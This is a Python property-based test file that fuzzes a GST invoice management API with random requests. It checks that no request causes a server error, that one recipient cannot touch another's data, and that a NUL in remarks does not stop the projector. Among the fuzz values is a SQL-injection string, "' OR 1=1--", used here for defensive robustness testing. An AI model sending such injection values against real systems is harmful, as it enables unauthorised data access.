# Text in URLs may hold any character but surrogates (they cannot be percent-encoded as UTF-8). Text in JSON
# bodies may hold anything but NUL: a NUL that reaches the projector stops it for every recipient, which the
# last test of this module pins on its own; here it would only hide what else the random requests find.
URL_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=24)
BODY_TEXT = st.text(st.characters(blacklist_characters="\x00"), max_size=24)
JSON_LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.decimals(allow_nan=False, allow_infinity=False, places=3),
    BODY_TEXT,
)
JSON_VALUES = st.recursive(
    JSON_LEAVES,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(BODY_TEXT, inner, max_size=4)),
    max_leaves=12,
)
PARAMS = ("section", "status", "stin", "rtnprd", "q", "limit", "cursor", "format", "as_of", "version", "from", "to")


@st.composite
def hostile_requests(draw: st.DrawFn, scene: Scene) -> tuple[str, str, Any]:
    """(method, path with query, JSON body or None): random requests by A within and around its endpoints.
    Each field is well-formed (from A's and B's real identifiers) four times in five and random otherwise,
    so most requests get past the first checks and reach the item rules, the read model and the broker."""
    a, b = scene.a, scene.b
    docs = [*scene.a_docs.values(), *scene.b_docs.values()]
    known = [a, b, scene.supplier, "102025", "112025", "b2b", "cdnr", "A", "R", "P", "N", "' OR 1=1--", "%", "csv"]
    known += [d["doc_id"] for d in docs] + [d["inum"] for d in docs]
    interesting = st.sampled_from(known)
    junk = st.one_of(interesting, JSON_VALUES)

    def mostly(valid: st.SearchStrategy[Any]) -> Any:
        return draw(junk) if draw(st.integers(0, 4)) == 4 else draw(valid)

    values = st.one_of(URL_TEXT, interesting)
    query = draw(st.dictionaries(st.one_of(st.sampled_from(PARAMS), URL_TEXT), values, max_size=4))
    segment = quote(draw(st.one_of(URL_TEXT, interesting)), safe="")
    suffix = ("?" + str(httpx.QueryParams(query))) if query else ""

    def record() -> dict[str, Any]:
        doc = draw(st.sampled_from(docs))
        fields = {
            "doc_id": st.just(doc["doc_id"]),
            "stin": st.just(doc["stin"]),
            "inum": st.just(doc["inum"]),
            "idt": st.just(doc["idt"]),
            "hash": st.just(doc["hash"]),
            "action": st.sampled_from(["A", "R", "P", "N"]),
            "remarks": BODY_TEXT,
            "itcRedReq": st.sampled_from(["Y", "N"]),
            "declIgst": st.decimals(min_value=0, max_value=10**6, places=2),
        }
        chosen = draw(st.lists(st.sampled_from(sorted(fields)), min_size=1, max_size=7, unique=True))
        return {name: mostly(fields[name]) for name in chosen}

    kind = draw(st.integers(0, 9))
    if kind == 0:
        return "GET", f"/v1/ims/{a}/counts{suffix}", None
    if kind == 1:
        return "GET", f"/v1/ims/{a}/documents{suffix}", None
    if kind == 2:
        return "GET", f"/v1/ims/{a}/documents/{segment}/history", None
    if kind == 3:
        return "GET", f"/v1/ims/{a}/requests/{segment}", None
    if kind == 4:
        tail = draw(st.sampled_from(["", "/versions", "/diff"]))
        return "GET", f"/v1/gstr2b/{a}/{segment}{tail}{suffix}", None
    if kind == 5:
        return "GET", f"/v1/ims/{segment}/documents{suffix}", None
    if kind == 6:  # SAVE / RESET
        reqtyp = draw(st.sampled_from(["SAVE", "RESET"]))
        section = draw(st.one_of(st.sampled_from(sorted(SECTION_BY_KEY)), st.just("b2b"), BODY_TEXT))  # a JSON key
        invdata = {section: [record() for _ in range(draw(st.integers(1, 3)))]}
        body = {"rtin": mostly(st.just(a)), "reqtyp": mostly(st.just(reqtyp)), "invdata": mostly(st.just(invdata))}
        return "POST", f"/v1/ims/{a}/actions" + ("/reset" if reqtyp == "RESET" else ""), body
    if kind == 7:  # bulk
        filter_values = {
            "section": st.sampled_from(sorted(SECTION_BY_KEY)),
            "status": st.sampled_from(["N", "A", "R", "P", "pending"]),
            "stin": st.sampled_from([scene.supplier, a, b]),
            "rtnprd": st.sampled_from(["102025", "112025"]),
        }
        keys = draw(st.lists(st.sampled_from(sorted(filter_values)), max_size=3, unique=True))
        body = {
            "action": mostly(st.sampled_from(["A", "R", "P", "N"])),
            "filter": mostly(st.just({k: mostly(filter_values[k]) for k in keys})),
            "remarks": mostly(BODY_TEXT),
            "itc_reduction": mostly(st.just({"itcRedReq": "Y", "declIgst": "1.00"})),
        }
        return "POST", f"/v1/ims/{a}/actions/bulk", body
    if kind == 8:
        path = draw(st.sampled_from([f"/v1/ims/{a}/profile", f"/v1/ims/{a}/gstr3b/{segment}", f"/v1/ims/{a}/actions"]))
        return "POST", path, draw(junk)
    return "GET", f"/v1/suppliers/{segment}/outward{suffix}", None


def test_property_random_requests_of_one_recipient_never_5xx_and_never_touch_another_recipient(
    scene: Scene,
) -> None:
    """Every 5xx among the random requests is collected (not just the first), then B is checked: no new
    event under B's key, B's rows unchanged, and the projector still running."""
    stack, b = scene.stack, scene.b
    scene.settle()
    b_before, b_events_before = recipient_digest(stack, b), len(events_keyed(stack, b))
    consumer = stack.processes["consumer:ims"]
    server_errors: list[str] = []

    @settings(
        max_examples=60,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(request=hostile_requests(scene))
    def random_request_by_a(request: tuple[str, str, Any]) -> None:
        method, path, body = request
        with scene.as_a() as client:
            answer = client.request(method, path, content=None if body is None else dumps(body), headers=JSON)
        if answer.status_code >= 500:
            server_errors.append(f"{method} {path} {dumps(body)[:240]} -> {answer.status_code}")

    random_request_by_a()
    b_events_after = len(events_keyed(stack, b))
    time.sleep(1)  # anything A's requests published has had time to reach the projector
    assert consumer.poll() is None, "the IMS consumer exited while serving A's random requests"
    assert b_events_after == b_events_before, f"{b_events_after - b_events_before} new events for {b}"
    assert recipient_digest(stack, b) == b_before, f"rows of {b} changed"
    assert not server_errors, f"{len(server_errors)} of 60 random requests got a 5xx:\n" + "\n".join(server_errors)


# Last: a failure here may stop the IMS consumer ------------------------------------------------------------
def test_a_nul_character_in_remarks_is_refused_or_stored_and_the_projector_keeps_serving_everyone(
    scene: Scene,
) -> None:
    stack, a, b = scene.stack, scene.a, scene.b
    consumer = stack.processes["consumer:ims"]
    assert consumer.poll() is None, "the IMS consumer had already exited before this test"
    with scene.as_a() as client:
        current = {d["inum"]: d for d in client.get(f"/v1/ims/{a}/documents").json()["invdata"]["b2b"]}
        doc = current["HX/6"]
        remark, action = "late\x00payment", "P" if doc["action"] == "R" else "R"
        answer = client.post(
            f"/v1/ims/{a}/actions",
            content=dumps(
                _save_body(a, {"doc_id": doc["doc_id"], "hash": doc["hash"], "action": action, "remarks": remark})
            ),
            headers=JSON,
        )
    assert answer.status_code < 500, answer.text
    accepted = answer.status_code == 200 and answer.json()["proc_cnt"] == 1
    if not accepted:
        message = error_of(answer).get("error_msg", "") if answer.status_code != 200 else answer.text
        assert "remarks" in message, answer.text
        return

    # Accepted: then the projector must apply it, and keep applying everyone else's events afterwards.
    b_doc = scene.b_docs["HB/1"]
    with fresh_client(stack, scene.recipient_b) as as_b:
        fresh_b = {d["inum"]: d for d in as_b.get(f"/v1/ims/{b}/documents").json()["invdata"]["b2b"]}["HB/1"]
        by_b = as_b.post(
            f"/v1/ims/{b}/actions",
            content=dumps(_save_body(b, {"doc_id": b_doc["doc_id"], "hash": fresh_b["hash"], "action": "A"})),
            headers=JSON,
        )
        assert by_b.status_code == 200 and by_b.json()["status_cd"] == "P", by_b.text
        deadline = time.monotonic() + 20
        b_action = "N"
        while time.monotonic() < deadline and consumer.poll() is None:
            b_action = {d["inum"]: d for d in as_b.get(f"/v1/ims/{b}/documents").json()["invdata"]["b2b"]}["HB/1"][
                "action"
            ]
            if b_action == "A":
                break
            time.sleep(0.3)
    log = (stack.settings.home / "consumer-ims.log").read_text(errors="replace")
    assert consumer.poll() is None, (
        f"a SAVE by {a} with a NUL in remarks was accepted and the IMS consumer exited "
        f"(code {consumer.poll()}); log tail:\n{log[-800:]}"
    )
    assert b_action == "A", f"{b}'s accepted action was not applied within 20 s after {a}'s NUL remark"
